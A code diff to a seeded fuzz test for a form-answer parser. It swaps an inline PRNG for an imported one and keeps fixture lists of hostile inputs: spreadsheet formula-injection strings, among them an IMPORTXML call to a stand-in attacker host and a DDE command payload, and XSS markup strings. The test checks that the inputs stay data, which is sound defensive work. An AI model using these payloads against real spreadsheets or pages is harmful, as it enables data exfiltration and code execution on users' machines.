@@ -1,18 +1,7 @@
 // At least 500 generated malformed answers (seeded): parsing never throws, each ends as a profile or reasons, formulas stay data.
 import { parseMentorAnswer, parseRequestAnswer, type ParseResult } from '../../../src/domain/forms';
+import { prng } from '../../../bench/scenarios/matching-instances';
 import { mentorAnswer, requestAnswer, vocabulary } from './fixtures';
-
-/** mulberry32: a small seeded PRNG so failures reproduce. */
-function prng(seed: number) {
-  let a = seed >>> 0;
-  return () => {
-    a = (a + 0x6d2b79f5) >>> 0;
-    let t = a;
-    t = Math.imul(t ^ (t >>> 15), t | 1);
-    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
-    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
-  };
-}
 
 const FORMULAS = ['=IMPORTXML("http://evil.example/x","//a")', '+1+2', '-2+3', '@SUM(A1:A9)', '=HYPERLINK("http://x","клик")', "=cmd|' /C calc'!A0"];
 const MARKUP = ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '"><b>жирный</b>', '&lt;&gt;&amp;'];
